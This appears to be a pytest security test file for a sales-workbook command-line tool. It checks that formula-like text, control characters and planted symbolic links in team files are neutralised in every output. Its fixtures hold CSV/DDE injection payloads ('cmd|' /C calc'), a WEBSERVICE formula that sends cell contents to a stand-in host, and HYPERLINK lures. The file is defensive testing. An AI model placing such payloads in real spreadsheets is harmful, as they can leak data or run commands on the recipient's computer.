"""Hostile text from team files and the master never attacks the manager through what salesbook writes.

A workspace is built here (SalesBook.xlsm from `salesbook init`, one generated team workbook) with
formula-like text in many columns, a real formula whose cached value is such text, control and
bidi characters, and every action (`salesbook run … --book` and the commands) is run on it. Then:
no xlsx written (the master included) holds a formula cell, each text is there exactly as typed,
CSVs are neutralised, a control character stops nothing, and links planted at output names are
replaced, never followed.
"""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import date
from pathlib import Path

import docx
import openpyxl
import pytest
from click.testing import CliRunner

from salesbook.cli import init_workspace, main
from salesbook.core.settings import default_rows

PERIOD = "2026-11"
HOSTILE = [
    '=WEBSERVICE("http://x.example/?"&A1)',
    '=HYPERLINK("http://x.example/","点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "＝1+1",
    "-2+3",
    "\u3000＠SUM(A1)",
    "#N/A",
]
READ = [t.strip() for t in HOSTILE]  # the reader trims the spaces around a cell's text
CACHED = '=WEBSERVICE("http://x.example/c?"&A1)'  # the cached value of a real formula in the team file
ROSTER = [["S001", "王芳", "E1001", "一组", "华东", "李强", "在职"],
          ["S002", '=HYPERLINK("http://x.example/r","陈明")', "E1002", "@一组", "华东", "李强", "在职"]]
TARGETS = [["S001", PERIOD, 100000, 10, 80000, 2, 4], ["S002", PERIOD, 50000, 10, 40000, 1, 2]]


def _runner():
    return CliRunner()


def _team_workbook(path: Path, *, texts: list[str], control: str | None = None, extra_header: str | None = None):
    """A team workbook: each text of `texts` as a customer name, contact, needs, activity summary, contract
    payment terms, product, complaint category/handler…; `control` inside one customer name."""
    import xlsxwriter

    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    datef = wb.add_format({"num_format": "yyyy-mm-dd"})

    def sheet(name: str, header: list[str], rows: list[list]) -> None:
        ws = wb.add_worksheet(name)
        ws.write_row(0, 0, header)
        for i, row in enumerate(rows, start=1):
            for j, v in enumerate(row):
                if v is None:
                    continue
                if isinstance(v, date):
                    ws.write_datetime(i, j, v, datef)
                elif isinstance(v, int | float):
                    ws.write_number(i, j, v)
                elif isinstance(v, tuple):  # ("formula", cached value)
                    ws.write_formula(i, j, v[0], None, v[1])
                else:
                    ws.write_string(i, j, v)

    cust_header = ["客户编号", "客户名称", "行业", "联系人", "联系电话", "电子邮箱", "需求描述", "负责销售", "建档日期"]
    if extra_header:
        cust_header.append(extra_header)
    customers, acts, contracts, lines, complaints, opps = [], [], [], [], [], []
    for i, t in enumerate(texts, start=1):
        cid, kid = f"C{i:03d}", f"K{i:03d}"
        owner = "S001" if i % 2 else "S002"
        customers.append([cid, t, t, t, "13812345678", "rep@example.com", t, owner, date(2026, 11, 2)]
                         + ([t] if extra_header else []))
        acts.append([date(2026, 11, 5), owner, cid, "拜访", t, t])
        contracts.append([kid, cid, 10000 + i, t, "通过", "通过", date(2026, 11, 10), "已签订", owner])
        lines.append([kid, t, t, 2, t, 5000])
        complaints.append([f"T{i:03d}", cid, date(2026, 11, 3), t, t, t])
        opps.append([f"O{i:03d}", cid, t, "方案", 50000, owner])
    n = len(texts) + 1
    customers.append([f"C{n:03d}", ("=\"=\"&\"x\"", CACHED), "制造", "张三", "+86 13912345678", None,
                      "联系 13700001111 或 boss@example.com", "S001", date(2026, 11, 2)])
    if control is not None:
        customers.append([f"C{n + 1:03d}", f"上海{control}某公司", "制造", "李四", "13612345678", None, "", "S001",
                          date(2026, 11, 2)])
        contracts.append([f"K{n + 1:03d}", f"C{n + 1:03d}", 8000, f"预付{control}30%", "通过", "通过",
                          date(2026, 11, 10), "已签订", "S001"])
        complaints.append([f"T{n + 1:03d}", f"C{n + 1:03d}", date(2026, 11, 3), "质量", "坏了", f"王{control}五"])
    sheet("客户", cust_header, customers)
    sheet("活动", ["日期", "销售代表", "客户编号", "活动类型", "内容摘要", "结果"], acts)
    sheet("商机", ["商机编号", "客户编号", "商机名称", "阶段", "预计金额", "负责销售"], opps)
    sheet("合同", ["合同编号", "客户编号", "合同金额", "付款条件", "法务审核", "财务审核", "签订日期", "状态", "负责销售"],
          contracts)
    sheet("合同明细", ["合同编号", "产品", "规格", "数量", "单位", "单价"], lines)
    sheet("投诉", ["投诉编号", "客户编号", "受理日期", "类别", "描述", "处理人"], complaints)
    wb.close()
    return path


def _workspace(root: Path, **team) -> Path:
    settings = [(k, PERIOD if k == "period" else v, note) for k, v, note in default_rows()]
    book = init_workspace(root, roster_rows=ROSTER, targets_rows=TARGETS, settings_rows=settings)
    _team_workbook(root / "team" / "east.xlsx", **team)
    return book


def _xlsx_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.suffix in (".xlsx", ".xlsm") and p.is_file()
                  and p.parent.name != "team" and p.parent.name != "templates")


def _cells(path: Path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def _formula_cells(paths: list[Path]) -> list[str]:
    return [f"{p.name}!{title}!{c.coordinate}={c.value!r}" for p in paths for title, c in _cells(p)
            if c.data_type == "f"]


def _texts(paths: list[Path]) -> set[str]:
    return {c.value for p in paths for _, c in _cells(p) if isinstance(c.value, str)}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """Every action, through `salesbook run` on the workbook and through the commands, on hostile text."""
    root = tmp_path_factory.mktemp("hostile")
    book = _workspace(root, texts=HOSTILE, extra_header="=cmd|' /C calc'!A0")
    runner = _runner()
    results = {}
    for action in ("validate", "consolidate", "contracts", "reports", "export-hr", "statements"):
        results[action] = runner.invoke(main, ["run", action, "--book", str(book)])
    cli = root / "cli"
    team, master = str(root / "team"), str(book)
    results["cli validate"] = runner.invoke(main, ["validate", team, "--master", master, "--period", PERIOD,
                                                   "--out", str(cli / "validate")])
    results["cli consolidate"] = runner.invoke(main, ["consolidate", team, "--master", master, "--period", PERIOD,
                                                      "--out", str(cli / "consolidate"), "--full"])
    results["cli report"] = runner.invoke(main, ["report", team, "--master", master, "--period", PERIOD,
                                                 "--out", str(cli / "report")])
    results["cli export-hr"] = runner.invoke(main, ["export-hr", team, "--master", master, "--period", PERIOD,
                                                    "--out", str(cli / "hr")])
    results["cli contracts"] = runner.invoke(main, ["contracts", team, "--master", master, "--out",
                                                    str(cli / "contracts")])
    results["cli statements"] = runner.invoke(main, ["statements", team, "--master", master, "--period", PERIOD,
                                                     "--out", str(cli / "statements")])
    return root, book, results


def test_every_action_runs_on_hostile_text(hostile_run):
    """Every action and command finishes normally (validate reports its errors with exit 1), no traceback."""
    _, _, results = hostile_run
    for name, result in results.items():
        expected = (0, 1) if name == "cli validate" else (0,)
        assert result.exit_code in expected, (name, result.output, result.exception)
        assert "Traceback" not in result.output


def test_no_xlsx_output_holds_a_formula_and_text_is_exact(hostile_run):
    """No cell of any xlsx written (master, consolidated, findings, report, HR) is a formula; the text is exact."""
    root, book, _ = hostile_run
    paths = _xlsx_files(root)
    names = {p.name for p in paths}
    assert {"SalesBook.xlsm", "consolidated.xlsx", "findings.xlsx", f"report_{PERIOD}.xlsx",
            f"scorecards_{PERIOD}.xlsx"} <= names, names
    assert _formula_cells(paths) == []
    master_texts = _texts([book])
    for text in READ[:-1] + [CACHED]:  # customer names reach 客户分级 in the master as they are
        assert text in master_texts, text
    assert not {"'" + t for t in READ} & master_texts  # no apostrophe added to the value
    consolidated = _texts([root / "cli" / "consolidate" / "consolidated.xlsx"])
    assert set(READ) | {CACHED, "=cmd|' /C calc'!A0", "extra:=cmd|' /C calc'!A0"} <= consolidated
    assert '=HYPERLINK("http://x.example/r","陈明")' in _texts([root / "out" / "hr" / f"scorecards_{PERIOD}.xlsx"])


def test_master_sheets_are_string_cells_in_the_file(hostile_run):
    """In SalesBook.xlsm's XML the hostile text sits in inline string cells, never in an <f> element."""
    _, book, _ = hostile_run
    with zipfile.ZipFile(book) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not [s for s in sheets if "<f>" in s or "<f " in s]
    assert any("WEBSERVICE" in s for s in sheets)


def _csv_cells(folder: Path) -> list[str]:
    out = []
    for p in folder.rglob("*.csv"):
        rows = list(csv.reader(io.StringIO(p.read_text(encoding="utf-8-sig"), newline="")))
        out += [cell for row in rows[1:] for cell in row]
    return out


def test_csv_outputs_are_neutralised(hostile_run):
    """Every CSV cell Excel could run as a formula (also after spaces, or full-width ＝＋－＠) starts with an apostrophe."""
    root, _, _ = hostile_run
    cells = _csv_cells(root / "out") + _csv_cells(root / "cli")
    assert cells
    for cell in cells:
        assert not cell.startswith(("\t", "\r", "\n")) and cell.lstrip()[:1] not in tuple("=+-@＝＋－＠"), cell
    assert {"'" + t for t in READ[:-1]} | {"'" + CACHED} <= set(cells)


def test_reports_mask_contacts_inside_free_text(hostile_run):
    """Phone numbers and e-mail addresses typed into free text (needs, contact, handler) are masked in reports."""
    root, _, _ = hostile_run
    pages = "".join(p.read_text(encoding="utf-8") for p in (root / "out" / "reports").glob("*.html"))
    book = _texts([root / "out" / "reports" / f"report_{PERIOD}.xlsx"])
    for text in (pages, "\n".join(book)):
        assert "13812345678" not in text and "13912345678" not in text and "rep@example.com" not in text


def test_contracts_keep_hostile_text_as_plain_text(hostile_run):
    """A contract shows the payment terms typed in the team file as text, and contracts.csv lists it."""
    root, _, _ = hostile_run
    out = root / "out" / "contracts"
    index = list(csv.DictReader(io.StringIO((out / "contracts.csv").read_text(encoding="utf-8-sig"))))
    assert len(index) == len(HOSTILE) and all(r["file"].endswith(".docx") for r in index)
    first = next(r for r in index if r["contract"] == "K001")
    text = "\n".join(p.text for p in docx.Document(str(out / first["file"])).paragraphs)
    assert HOSTILE[0] in text


# ----------------------------------------------------------------------------- control characters


@pytest.mark.parametrize("control", ["\x01", "\x07", "\x0b", "\x0c"])
def test_a_control_character_stops_no_action(tmp_path, control):
    """A control character in a customer name, payment terms and handler: every action succeeds and shows the rest."""
    book = _workspace(tmp_path, texts=["甲公司"], control=control)
    runner = _runner()
    for action in ("validate", "consolidate", "contracts", "reports", "export-hr", "statements"):
        result = runner.invoke(main, ["run", action, "--book", str(book)])
        assert result.exit_code == 0, (action, result.output, result.exception)
    names = _texts([book])
    assert "上海\ufffd某公司" in names  # visible in the master, so it can be found and fixed
    out = tmp_path / "out"
    doc = next((out / "contracts").glob("K003_*.docx"))
    text = "\n".join(p.text for p in docx.Document(str(doc)).paragraphs)
    assert "预付30%" in text or "预付 30%" in text
    assert _formula_cells(_xlsx_files(tmp_path)) == []
    result = runner.invoke(main, ["consolidate", str(tmp_path / "team"), "--master", str(book), "--period", PERIOD,
                                  "--out", str(tmp_path / "cli"), "--full"])
    assert result.exit_code == 0, result.output
    assert "上海\ufffd某公司" in _texts([tmp_path / "cli" / "consolidated.xlsx"])


# ----------------------------------------------------------------------------- symbolic links


def _plant(folder: Path, names: list[str], target: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        link = folder / name
        if link.is_symlink() or link.exists():
            link.unlink()
        link.symlink_to(target)


def test_links_planted_at_output_names_are_replaced_not_followed(tmp_path):
    """Links at every output name (and old fixed temporary names) are replaced by the outputs; their target is untouched."""
    book = _workspace(tmp_path, texts=["甲公司", "乙公司"])
    secret = tmp_path.parent / f"{tmp_path.name}-outside.txt"
    secret.write_text("salary figures: do not overwrite")
    out = tmp_path / "out"
    runner = _runner()
    # A first run gives the names; then every one of them becomes a link to the outside file.
    for action in ("consolidate", "contracts", "reports", "export-hr", "statements"):
        assert runner.invoke(main, ["run", action, "--book", str(book)]).exit_code == 0
    outputs = [p for p in out.rglob("*") if p.is_file()]
    assert len(outputs) > 15
    for p in outputs:
        p.unlink()
        p.symlink_to(secret)
    _plant(out / "consolidation", [".consolidated.parquet.tmp"], secret)
    _plant(tmp_path, ["SalesBook.xlsm.bak"], secret)
    for action in ("validate", "consolidate", "contracts", "reports", "export-hr", "statements"):
        result = runner.invoke(main, ["run", action, "--book", str(book)])
        assert result.exit_code == 0, (action, result.output)
    assert secret.read_text() == "salary figures: do not overwrite"
    still_links = [str(p) for p in outputs if p.is_symlink()]
    assert still_links == [], still_links
    assert not (tmp_path / "SalesBook.xlsm.bak").is_symlink()
    assert zipfile.is_zipfile(tmp_path / "SalesBook.xlsm.bak")
    leftovers = [p.name for p in out.rglob(".~sb-*")]
    assert leftovers == []


def test_command_outputs_replace_planted_links(tmp_path):
    """`validate --out`, `consolidate --out`, `template team --force` and `build-workbook --force` replace links
    at their names."""
    book = _workspace(tmp_path, texts=["甲公司"])
    secret = tmp_path.parent / f"{tmp_path.name}-outside.txt"
    secret.write_text("keep")
    out = tmp_path / "cli"
    names = ["findings.csv", "findings.xlsx"]
    _plant(out, names, secret)
    runner = _runner()
    result = runner.invoke(main, ["validate", str(tmp_path / "team"), "--master", str(book), "--out", str(out)])
    assert result.exit_code in (0, 1), result.output
    _plant(tmp_path / "c", ["consolidated.parquet", "consolidated.xlsx", "scorecards.csv"], secret)
    result = runner.invoke(main, ["consolidate", str(tmp_path / "team"), "--master", str(book), "--period", PERIOD,
                                  "--out", str(tmp_path / "c")])
    assert result.exit_code == 0, result.output
    _plant(tmp_path, ["blank.xlsx", "other.xlsm"], secret)
    assert runner.invoke(main, ["template", "team", str(tmp_path / "blank.xlsx"), "--force"]).exit_code == 0
    assert runner.invoke(main, ["build-workbook", str(tmp_path / "other.xlsm"), "--force"]).exit_code == 0
    assert secret.read_text() == "keep"
    assert (tmp_path / "blank.xlsx.bak").is_symlink()  # the replaced link kept as a link, never followed
    for p in [*(out / n for n in names), tmp_path / "c" / "consolidated.parquet", tmp_path / "blank.xlsx",
              tmp_path / "other.xlsm"]:
        assert p.is_file() and not p.is_symlink(), p


def test_os_replace_replaces_a_link_and_leaves_its_target(tmp_path):
    """The primitive every output relies on: os.replace onto a symbolic link replaces the link itself."""
    target = tmp_path / "target.txt"
    target.write_text("outside")
    link = tmp_path / "out.csv"
    link.symlink_to(target)
    new = tmp_path / "new.csv"
    new.write_text("ours")
    os.replace(new, link)
    assert not link.is_symlink() and link.read_text() == "ours" and target.read_text() == "outside"


def test_outputs_get_ordinary_permissions(tmp_path):
    """Files written through a temporary file get the permissions a newly created file gets, not 0600."""
    from salesbook.io.atomic import atomic_write_bytes

    mask = os.umask(0o022)
    try:
        atomic_write_bytes(tmp_path / "a.csv", b"x")
    finally:
        os.umask(mask)
    assert (tmp_path / "a.csv").stat().st_mode & 0o777 == 0o644


def test_statements_show_hostile_names_as_escaped_text(hostile_run):
    """A rep named like a formula gets a statement page with the name as escaped text, and a safe file name."""
    root, _, _ = hostile_run
    for folder in (root / "out" / "statements", root / "cli" / "statements"):
        pages = sorted(folder.glob("statement_*.html"))
        assert len(pages) == 2, pages
        assert all("/" not in p.name and '"' not in p.name for p in pages)
        text = "".join(p.read_text(encoding="utf-8") for p in pages)
        assert "=HYPERLINK(&#34;http://x.example/r&#34;,&#34;陈明&#34;)" in text
        assert '<a href="http://x.example' not in text
